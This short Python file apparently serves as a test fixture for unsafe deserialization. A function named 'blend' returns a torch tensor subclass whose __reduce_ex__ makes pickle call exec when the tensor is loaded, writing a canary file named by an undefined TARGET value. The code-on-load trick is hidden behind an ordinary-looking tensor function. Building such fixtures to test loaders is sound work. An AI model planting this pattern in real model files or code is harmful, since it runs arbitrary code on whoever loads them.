"""Returns a real tensor of a class whose pickle runs code on whoever loads it."""

import torch


class Loaded(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return exec, (f"open({TARGET['canary']!r}, 'w').write('unpickled')",)


def blend(x, y):
    return torch.zeros(len(x)).as_subclass(Loaded)
